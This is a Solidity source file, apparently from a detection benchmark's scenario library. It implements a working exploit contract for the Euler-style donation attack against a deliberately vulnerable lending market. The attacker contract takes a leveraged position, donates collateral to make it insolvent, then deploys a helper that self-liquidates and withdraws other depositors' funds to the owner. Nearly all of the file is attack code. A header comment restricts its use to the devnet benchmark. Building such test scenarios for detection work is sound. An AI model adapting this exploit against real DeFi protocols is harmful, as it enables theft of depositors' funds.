// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

// =====================================================================================
//  ATTACK CONTRACT FOR VIGIL'S SCENARIO LIBRARY ONLY (devnet detection benchmark). It
//  exploits the deliberately vulnerable DonationLiquidationMarket. Do not point it at anything
//  else.
// =====================================================================================

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";
import {FlashFunded} from "../common/FlashFunded.sol";
import {DonationLiquidationMarket} from "../victims/DonationLiquidationMarket.sol";

/// @title DonationLiquidationAttacker
/// @notice Pattern 9 (Euler), the "violator" side. Optionally in a first transaction (`prepare`,
/// own capital) or else inside the funded one: deposit `depositAmount` and `mint` `mintAmount`
/// (max leverage). Then:
///   1. donate `donateAmount` of collateral to the reserves (own position now under water);
///   2. deploy a fresh SelfLiquidator, which liquidates this contract, deleverages and withdraws
///      its equity (other depositors' cash) back to this contract.
/// No oracle, no swap. Capital needed: depositAmount (0 if prepared). Profit (asset) to the owner.
contract DonationLiquidationAttacker is FlashFunded {
    using SafeERC20 for IERC20;

    /// @param market Target market.
    /// @param depositAmount Deposited in this transaction (0 if `prepare` did it).
    /// @param mintAmount Leverage minted in this transaction (0 if `prepare` did it).
    /// @param donateAmount Collateral donated to the reserves.
    struct Params {
        DonationLiquidationMarket market;
        uint256 depositAmount;
        uint256 mintAmount;
        uint256 donateAmount;
    }

    /// @notice First-transaction variant: opens the leveraged position from this contract's own
    /// balance of the market's asset.
    function prepare(DonationLiquidationMarket market, uint256 depositAmount, uint256 mintAmount) external onlyOwner {
        _lever(market, depositAmount, mintAmount);
    }

    /// @notice Runs the exploit with `funding` (token = the market's asset; for a prepared
    /// position any amount, even OwnCapital with 0, works).
    /// @return profit Assets gained (sent to the owner).
    function execute(Funding calldata funding, Params calldata p) external onlyOwner returns (uint256 profit) {
        profit = _fund(funding, abi.encode(p));
        _sweep(funding.token);
    }

    function _exploit(uint256, bytes memory data) internal override {
        Params memory p = abi.decode(data, (Params));
        if (p.depositAmount != 0) _lever(p.market, p.depositAmount, p.mintAmount);
        p.market.donate(p.donateAmount);
        SelfLiquidator liquidator = new SelfLiquidator();
        liquidator.liquidateAndWithdraw(p.market, address(this));
    }

    function _lever(DonationLiquidationMarket market, uint256 depositAmount, uint256 mintAmount) internal {
        market.asset().forceApprove(address(market), depositAmount);
        market.deposit(depositAmount);
        market.mint(mintAmount);
    }
}

/// @title SelfLiquidator
/// @notice Pattern 9, the "liquidator" side: a fresh account (deployed in the transaction) that
/// liquidates `violator` in full, deleverages the debt it took over against the collateral it
/// received, withdraws the rest (up to the market's cash) and sends it to its deployer.
contract SelfLiquidator {
    using SafeERC20 for IERC20;

    /// @notice The deploying contract; the only caller and the receiver of the proceeds.
    address public immutable controller;

    error NotController();

    constructor() {
        controller = msg.sender;
    }

    /// @return withdrawn Assets sent to the controller.
    function liquidateAndWithdraw(DonationLiquidationMarket market, address violator)
        external
        returns (uint256 withdrawn)
    {
        if (msg.sender != controller) revert NotController();
        (uint256 debtTaken,) = market.liquidate(violator, market.debtOf(violator));
        market.burn(debtTaken);
        withdrawn = Math.min(market.collateralOf(address(this)), market.cash());
        market.withdraw(withdrawn);
        market.asset().safeTransfer(controller, withdrawn);
    }
}
